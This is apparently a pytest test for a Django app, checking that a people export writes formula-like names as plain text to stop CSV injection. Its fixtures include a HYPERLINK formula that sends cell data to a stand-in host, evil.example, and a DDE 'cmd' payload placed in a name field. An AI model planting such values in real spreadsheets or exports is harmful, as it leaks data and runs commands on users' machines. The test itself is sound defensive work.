"""The people export opens in a spreadsheet as data, not formulas (CSV injection)."""

import csv
import io

from django.urls import reverse

from alongside.lib.safecsv import FORMULA_STARTS
from conftest import make_person

HOSTILE = '=HYPERLINK("https://evil.example/?"&B2,"Click")'


def test_it_exports_a_name_that_looks_like_a_formula_as_text(client, world):
    make_person(
        world.coordinator,
        world.housing,
        legal_given_name=HOSTILE,
        legal_family_name="-2+3+cmd|' /C calc'!A0",
        preferred_name="@SUM(1+9)",
        pronouns="+they",
    )
    client.force_login(world.supervisor)
    body = b"".join(client.get(reverse("people:export")).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:2] == ["id", "preferred_name"]
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+9)" in cells and "'+they" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
